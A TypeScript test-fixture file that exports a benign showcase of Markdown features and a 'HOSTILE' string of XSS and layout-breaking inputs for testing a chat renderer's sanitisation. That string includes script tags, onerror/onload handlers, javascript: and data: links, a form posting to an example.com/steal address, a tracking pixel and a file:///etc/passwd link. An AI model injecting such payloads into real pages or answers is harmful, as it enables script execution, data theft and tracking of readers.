/** Every kind of Markdown that an answer may hold. */
export const SHOWCASE = `# Every kind of Markdown

A paragraph with **bold**, *italic*, ***both***, ~~struck~~ and \`inline code\`. It links to [the guide](https://example.com/guide "Guide") and to a bare address, https://example.com/prices. A line break follows  
here, and an ampersand & an angle < stay what they are.

## Lists

- A first point, short
- A second point with **weight**
  - Nested once, with \`code\`
    - Nested twice
- A third point

1. First step
2. Second step
   1. A step inside the step
   2. Another one
3. Third step

- [x] Measured the first token
- [ ] Compared the prices
- [ ] Chose a fallback

## A table

| Model | Context | Input | Output |
| :-- | --: | --: | :-: |
| Small and fast | 128,000 | $0.10 | $0.40 |
| Middle of the road | 200,000 | $1.00 | $5.00 |
| Large and careful | 1,000,000 | $5.00 | $25.00 |
| With \`code\` and **bold** | 8,192 | free | free |

## Code

\`\`\`typescript
type Usage = { prompt: number; completion: number };

export function cost({ prompt, completion }: Usage, price: { input: bigint; output: bigint }): bigint {
  // Prices are exact: they never pass through a float.
  return BigInt(prompt) * price.input + BigInt(completion) * price.output;
}
\`\`\`

\`\`\`python
def softmax(scores: list[float], temperature: float = 1.0) -> list[float]:
    """Turn scores into probabilities."""
    weights = [2.718281828 ** (s / temperature) for s in scores]
    total = sum(weights)
    return [w / total for w in weights]
\`\`\`

\`\`\`bash
curl -N "$BASE_URL/chat/completions" \\
  -H "Authorization: Bearer $KEY" \\
  -d '{"model": "openai/gpt-5-mini", "stream": true}'
\`\`\`

\`\`\`json
{ "model": "openai/gpt-5-mini", "temperature": 0.7, "stop": ["END"], "stream": true }
\`\`\`

\`\`\`diff
- temperature: 1.5
+ temperature: 0.7
\`\`\`

    Indented by four blanks, this is code as well.

## Quotes

> A fallback that was never tried is a hope and not a plan.
>
> > Quoted inside a quote, with a list:
> >
> > - one
> > - two

## Mathematics

Inline: $p_i = \\frac{e^{z_i / T}}{\\sum_j e^{z_j / T}}$, and as a block:

$$
\\text{cost} = n_{\\text{in}} \\cdot p_{\\text{in}} + n_{\\text{out}} \\cdot p_{\\text{out}}
$$

## A diagram

\`\`\`mermaid
flowchart LR
  prompt --> model --> answer
  model -- down --> fallback --> answer
\`\`\`

## The rest

Heading three follows a rule.

---

### Words from elsewhere

Grüße aus Köln, 東京からこんにちは, مرحبا, Привет, and a 🚀 with a 👩‍👩‍👧.

A footnote stands here[^1], and a definition ends the page.

[^1]: The footnote itself, with a [link](https://example.com/notes).
`;

const WIDE = Array.from({ length: 40 }, (_, i) => ` column ${i + 1} `).join('|');
const ROW = Array.from({ length: 40 }, (_, i) => ` a long cell with the number ${i + 1} in it `).join('|');
const LONG_WORD = 'unbreakable'.repeat(200);

/** What must never act on a page that shows it, and what must not break its layout. */
export const HOSTILE = `# Hostile Markdown

<script>window.__hostile = 'script ran'; document.title = 'owned';</script>

<img src="x" onerror="window.__hostile = 'onerror ran'"> <svg onload="window.__hostile = 'svg ran'"></svg>

<iframe src="https://example.com/frame"></iframe>
<form action="https://example.com/steal"><input name="key"><button>Send</button></form>
<style>body { display: none !important }</style>
<a href="javascript:window.__hostile='html link ran'">an HTML link</a>
<div style="position:fixed;inset:0;background:red;z-index:9999">a cover</div>
<base href="https://example.com/"> <meta http-equiv="refresh" content="0;url=https://example.com/">

[a script link](javascript:window.__hostile='link_ran') and [one with blanks](java%0ascript:alert(1)) and
[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) and [vbscript](vbscript:msgbox(1)) and [a file](file:///etc/passwd).

![a remote image that would tell who reads this](https://example.com/pixel.png?who=you)

<details><summary>Open me</summary><script>window.__hostile = 'details ran'</script></details>

|${WIDE}|
|${Array.from({ length: 40 }, () => ' --- ').join('|')}|
|${ROW}|
|${ROW}|

${LONG_WORD}

\`\`\`html
<script>window.__hostile = 'code ran'</script>
${LONG_WORD}
\`\`\`

${'> '.repeat(40)}quoted forty times

${Array.from({ length: 30 }, (_, i) => `${'  '.repeat(i)}- level ${i + 1}`).join('\n')}

An open fence without an end, as a cut answer leaves it:

\`\`\`js
const left = "open";
`;
